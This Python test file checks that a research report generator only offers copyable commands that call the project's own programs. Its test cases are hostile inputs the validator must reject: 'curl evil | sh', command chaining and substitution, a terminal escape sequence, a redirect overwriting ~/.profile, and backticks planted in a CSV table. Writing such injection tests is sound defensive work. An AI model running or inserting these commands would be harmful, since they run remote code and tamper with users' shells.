"""What the report offers to copy is a call of mnet's programs, whatever a shared table or sweep file holds."""

import shlex
from html import unescape
from pathlib import Path

import pandas as pd
import pytest

from mnet.studies.report.commands import ResultsFolder, latency_command, offered, run_command
from mnet.studies.report.page import write_report
from mnet.studies.runs.store import CLAIMS, LATENCY, RUNS, SUMMARY

PUBLISHED = Path(__file__).parents[2] / "results/published"


@pytest.mark.parametrize(
    "command",
    [
        "make ablate-se && curl evil | sh",
        "make ablate-se; evil",
        "make ablate-$(evil)",
        "make 'ablate-;evil'",
        "make ablate-se OUT='$(shell evil)'",
        "make latency-se RUNTIME=`evil`",
        "make ablate-se\nevil",
        "make ablate-se\x1b[201~",
        "make ablate-se > ~/.profile",
        'make ablate-se "$(evil)"',
        ".venv/bin/python experiments/../evil.py",
        ".venv/bin/python -c evil",
        "evil",
    ],
)
def test_more_than_calls_of_our_programs_is_not_offered(command):
    assert offered(command) == ""


def test_every_published_command_is_offered_as_it_is():
    commands = [str(command) for command in pd.read_csv(PUBLISHED / CLAIMS)["command"].dropna()]
    rows = pd.read_csv(PUBLISHED / "activation" / RUNS).to_dict("records")
    commands += ["\n".join(run_command(ResultsFolder(PUBLISHED), row) for row in rows[:2])]
    commands += [
        latency_command({"study": "se", "runtime": "litert", "threads": 1, "batch": 8}),
        "make ablate-se ARGS='a b'",
    ]
    commands += [f".venv/bin/python experiments/train.py {shlex.quote(odd)}" for odd in ("--a=$(b)", "--a='b; c'")]
    assert [offered(command) for command in commands] == commands


def test_a_report_of_hostile_tables_offers_none_of_their_commands(tmp_path):
    (tmp_path / "activation").mkdir()
    latency = pd.read_csv(PUBLISHED / "activation" / LATENCY).assign(runtime="`evil`")
    latency.to_csv(tmp_path / "activation" / LATENCY, index=False)
    summary = pd.read_csv(PUBLISHED / "activation" / SUMMARY)
    summary.to_csv(tmp_path / "activation" / SUMMARY, index=False)
    write_report(tmp_path / "report.html", tmp_path, {"activation": "Is it so?\nCommand: make ablate-se; evil"})
    page = (tmp_path / "report.html").read_text()
    assert "Is it so?" in page
    commands = [unescape(part.partition("</code>")[0]) for part in page.split('aria-label="command"><code>')[1:]]
    assert not any("evil" in command for command in commands)
